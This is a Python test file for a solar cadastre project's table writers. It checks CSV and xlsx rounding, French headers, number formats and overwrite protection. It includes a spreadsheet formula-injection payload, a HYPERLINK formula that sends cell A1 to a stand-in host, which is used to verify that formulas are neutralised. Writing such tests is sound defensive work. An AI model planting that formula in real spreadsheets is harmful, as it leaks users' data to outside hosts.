"""The tables as written for machines (CSV) and for people (xlsx): rounding, formula injection, headers.

Values are checked against literals worked out by hand and against what openpyxl reads back,
not against the writer's own helpers.
"""

from __future__ import annotations

import csv

import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook

from cadastre.results.tables import write_table, write_workbook

HOSTILE = '=HYPERLINK("http://example.invalid/?x="&A1,"clic")'


def frame() -> pd.DataFrame:
    return pd.DataFrame({
        "insee": ["17028", "34172"],
        "commune": ["Aytré", HOSTILE],
        "epci_siren": [200041762.0, np.nan],  # a code stored as floats stays whole
        "population": [9012.0, 295542.0],
        "buildings": [3, 12],
        "mwh": [4803.541544548079, np.nan],
        "kwp": [117.75584828566863, 0.004],
        "usable_area_m2": [588.7792414283431, 1354.3652190338435],
        "shading_ratio": [0.9195883559803683, 1.0],
        "x": [652345.678912, 652400.0],
        "gwh_net": [0.21783038510162897, 0.0],
        "mwp_net": [0.2640163614857306, 0.0],
        "score": [74.3509056590784, -3.25],
        "other": [0.123456789, 123456.789],
        "note": ["+33 1 23", "@SUM(A1:A2)"],
    })


def test_csv_rounds_each_column_to_its_precision(tmp_path):
    path = write_table(frame(), tmp_path / "t.csv")
    rows = list(csv.DictReader(path.open(encoding="utf-8")))
    first, second = rows
    assert first["mwh"] == "4803.542" and second["mwh"] == ""  # MWh: 3 decimals, NA empty
    assert first["kwp"] == "117.76" and second["kwp"] == "0.0"  # kWp: 2
    assert first["usable_area_m2"] == "588.8" and second["usable_area_m2"] == "1354.4"  # m²: 1
    assert first["shading_ratio"] == "0.9196"  # ratios: 4
    assert first["x"] == "652345.68"  # metres: 2
    assert first["gwh_net"] == "0.21783" and first["mwp_net"] == "0.26402"  # GWh 6, MWp 5
    assert first["score"] == "74.4" and second["score"] == "-3.2"  # negative numbers stay numbers
    assert first["other"] == "0.123457" and second["other"] == "123457.0"  # 6 significant digits
    assert first["epci_siren"] == "200041762.0" and first["population"] == "9012.0"
    assert first["buildings"] == "3" and first["insee"] == "17028" and first["commune"] == "Aytré"
    assert path.read_bytes().count(b"\r") == 0


def test_csv_neutralises_formulas(tmp_path):
    path = write_table(frame(), tmp_path / "t.csv")
    back = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert back.loc[1, "commune"] == "'" + HOSTILE
    assert back["note"].tolist() == ["'+33 1 23", "'@SUM(A1:A2)"]
    assert back.loc[0, "commune"] == "Aytré"


def test_workbook_reads_back_with_headers_numbers_and_accents(tmp_path):
    path = write_workbook({"communes": frame(), "territory": frame().head(1)}, tmp_path / "t.xlsx",
                          headers={"other": "Autre (s.u.)"})
    book = load_workbook(path)
    assert book.sheetnames == ["communes", "territory"]
    sheet = book["communes"]
    headers = [c.value for c in sheet[1]]
    assert headers[:3] == ["Code INSEE", "Commune", "SIREN de l'EPCI"]
    assert "Production (MWh/an)" in headers and "Puissance (kWc)" in headers and "Surface utile (m²)" in headers
    assert "Production nette (GWh/an)" in headers and "Autre (s.u.)" in headers
    column = {h: k for k, h in enumerate(headers)}
    first = [c.value for c in sheet[2]]
    assert first[column["Production (MWh/an)"]] == pytest.approx(4803.542, abs=1e-12)
    assert isinstance(first[column["Bâtiments analysés"]], int) and first[column["Bâtiments analysés"]] == 3
    assert first[column["Puissance (kWc)"]] == pytest.approx(117.76, abs=1e-12)
    assert first[column["Commune"]] == "Aytré" and first[column["Code INSEE"]] == "17028"  # a code stays text
    second = [c.value for c in sheet[3]]
    assert second[column["Production (MWh/an)"]] is None
    assert second[column["Commune"]] == "'" + HOSTILE and sheet.cell(3, column["Commune"] + 1).data_type == "s"
    assert sheet.cell(2, column["Production (MWh/an)"] + 1).number_format == "#,##0.000"
    assert sheet.freeze_panes == "A2"
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)  # no formula anywhere
    assert book["territory"].max_row == 2


def test_existing_workbook_needs_overwrite(tmp_path):
    from cadastre.errors import OutputFileError

    path = write_workbook({"t": frame()}, tmp_path / "t.xlsx")
    with pytest.raises(OutputFileError, match="exists"):
        write_workbook({"t": frame()}, path)
    write_workbook({"t": frame().head(1)}, path, overwrite=True)
    assert load_workbook(path)["t"].max_row == 2
    assert sorted(p.name for p in tmp_path.iterdir()) == ["t.xlsx"]  # no temporary file left
